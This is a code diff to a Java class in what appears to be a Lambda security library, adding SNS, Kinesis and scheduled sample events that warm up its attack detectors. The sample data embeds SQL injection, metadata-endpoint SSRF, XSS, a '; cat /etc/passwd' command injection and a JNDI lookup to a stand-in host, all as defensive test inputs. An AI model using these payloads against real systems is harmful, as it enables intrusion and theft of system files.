@@ -3,14 +3,19 @@ package dev.warden.lambda;
 import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
 import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
 import com.amazonaws.services.lambda.runtime.events.ApplicationLoadBalancerRequestEvent;
+import com.amazonaws.services.lambda.runtime.events.KinesisEvent;
+import com.amazonaws.services.lambda.runtime.events.SNSEvent;
 import com.amazonaws.services.lambda.runtime.events.SQSEvent;
+import com.amazonaws.services.lambda.runtime.events.ScheduledEvent;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 
 /**
- * Built-in sample events that drive every extractor and the finding path when Warden primes
+ * Built-in sample events that drive the common extractors and the finding path when Warden primes
  * itself (at init and before a SnapStart snapshot). Each carries benign values and a few attacks
  * in several locations (query, header, cookie, JSON body), so extraction, JSON walking,
  * normalization, detection, evidence and the decision are all loaded and compiled. Built in
@@ -24,13 +29,20 @@ final class PrimingEvents {
       + "[{\"sku\":\"A-1\",\"qty\":2},{\"sku\":\"B-2\",\"name\":\"x' OR '1'='1\"}]},"
       + "\"redirect\":\"http://169.254.169.254/latest/meta-data/\",\"bio\":\"<img src=x onerror=alert(1)>\"}";
 
-  /** One event of each built-in type, plus a generic map. */
+  /**
+   * REST API, HTTP API, ALB, SQS, SNS, Kinesis and EventBridge events, plus a generic map. The
+   * other triggers (S3, DynamoDB, Kafka, WebSocket, CloudWatch Logs) share the JSON and text
+   * walkers primed here; their own extractor classes load on first use.
+   */
   static List<Object> all() {
     List<Object> out = new ArrayList<>();
     out.add(rest());
     out.add(http());
     out.add(alb());
     out.add(sqs());
+    out.add(sns());
+    out.add(kinesis());
+    out.add(scheduled());
     out.add(generic());
     return out;
   }
@@ -100,6 +112,30 @@ final class PrimingEvents {
     }
     SQSEvent e = new SQSEvent();
     e.setRecords(records);
+    return e;
+  }
+
+  static SNSEvent sns() {
+    SNSEvent.SNS sns = new SNSEvent.SNS().withSubject("order created").withMessage(JSON_BODY);
+    return new SNSEvent().withRecords(List.of(new SNSEvent.SNSRecord().withSns(sns)));
+  }
+
+  static KinesisEvent kinesis() {
+    KinesisEvent.Record data = new KinesisEvent.Record();
+    data.setPartitionKey("p-1");
+    data.setData(ByteBuffer.wrap(JSON_BODY.getBytes(StandardCharsets.UTF_8)));
+    KinesisEvent.KinesisEventRecord r = new KinesisEvent.KinesisEventRecord();
+    r.setKinesis(data);
+    KinesisEvent e = new KinesisEvent();
+    e.setRecords(List.of(r));
+    return e;
+  }
+
+  static ScheduledEvent scheduled() {
+    ScheduledEvent e = new ScheduledEvent();
+    e.setSource("app.orders");
+    e.setDetailType("order");
+    e.setDetail(Map.of("note", "; cat /etc/passwd", "id", "ord-1", "ref", "${jndi:ldap://x.example/a}"));
     return e;
   }
 
